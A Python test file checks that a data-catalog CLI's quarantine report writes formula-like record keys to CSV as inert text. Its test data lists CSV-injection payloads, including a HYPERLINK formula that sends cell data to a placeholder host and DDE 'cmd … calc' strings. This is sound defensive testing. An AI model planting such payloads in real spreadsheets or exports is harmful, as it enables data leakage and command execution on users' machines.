"""``onceonly quarantine report -o``: a department's hostile source key is written as text, never
as a formula for the spreadsheet that opens the CSV; harmless keys are written as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import sqlalchemy as sa
from typer.testing import CliRunner

from catalog import Catalog, batches, connector_registrations, quarantine, utcnow
from cli.main import app
from onceonly.settings import Settings

# Built here: what a department system could hold as a record's key. Each would run in Excel.
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.invalid/")',  # full-width: a formula in Excel and WPS in East Asia
    " =1+1",
    "+86 22 2953 0000",  # not hostile, but text: kept with its +
]
HARMLESS = ["120114001000", "11010519491231002X", "-42", "-", "a=b"]


def _quarantined(catalog: Catalog, keys: list[str]) -> None:
    """A connector of 武清区公安分局 whose landed batch left ``keys`` in quarantine."""
    now = utcnow()
    with catalog.begin() as conn:
        conn.execute(
            sa.insert(connector_registrations).values(
                name="gongan-household",
                type="sql",
                dataset="household",
                department="天津市公安局武清分局",
                yaml_text="name: gongan-household\n",
                registered_at=now,
            )
        )
        conn.execute(
            sa.insert(batches).values(
                batch_id="b" * 32,
                run_id="run-1",
                connector="gongan-household",
                dataset="household",
                contract_id="household",
                contract_version="1.0.0",
                pulled=len(keys),
                accepted=0,
                quarantined=len(keys),
                warnings=0,
                certificates=0,
                content_sha256="0" * 64,
                landed_at=now,
            )
        )
        for key in keys:
            conn.execute(
                sa.insert(quarantine).values(
                    batch_id="b" * 32,
                    dataset="household",
                    contract_id="household",
                    contract_version="1.0.0",
                    record_key=key,
                    rule="township_code.region_code",
                    column="township_code",
                    severity="error",
                    value_masked="120114999000",
                    detected_at=now,
                )
            )


def test_report_csv_writes_formula_like_keys_as_text(home: Path, tmp_path: Path) -> None:
    catalog = Catalog.connect(Settings().catalog_url)
    try:
        _quarantined(catalog, HOSTILE + HARMLESS)
    finally:
        catalog.dispose()
    output = tmp_path / "fix.csv"
    result = CliRunner().invoke(app, ["quarantine", "report", "-o", str(output)])
    assert result.exit_code == 0, result.output

    with output.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    keys = {r["source_key"] for r in rows}
    assert keys == {"'" + k for k in HOSTILE} | set(HARMLESS)
    for row in rows:
        assert row["department"] == "天津市公安局武清分局"
        for cell in row.values():
            live = cell.lstrip(" \u3000")[:1] in set("=+@＝＋－＠") or cell[:1] in ("\t", "\r", "\n")
            assert not live, f"{cell!r} would run as a formula"
            assert not cell.startswith("-") or cell in ("-", "-42"), f"{cell!r} would run as a formula"
